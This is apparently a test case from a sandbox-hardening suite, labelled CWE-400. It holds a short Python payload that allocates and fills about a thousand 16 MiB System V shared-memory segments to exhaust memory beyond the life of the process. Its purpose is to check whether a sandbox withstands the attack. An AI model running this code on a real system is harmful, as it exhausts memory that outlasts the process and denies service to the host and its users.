"""Takes memory in System V segments, which outlive the process that made them.

class: CWE-400, System V shared memory
expect: crashed
docker: open: no limit without --memory; the segments die with the container
"""
import ctypes

import hostile

IPC_PRIVATE, IPC_CREAT, SIZE = 0, 0o1000, 16 << 20
hostile.libc.shmat.restype = ctypes.c_void_p
for _ in range(1000):
    segment = hostile.libc.shmget(IPC_PRIVATE, ctypes.c_size_t(SIZE), IPC_CREAT | 0o600)
    ctypes.memset(hostile.libc.shmat(segment, None, 0), 1, SIZE)
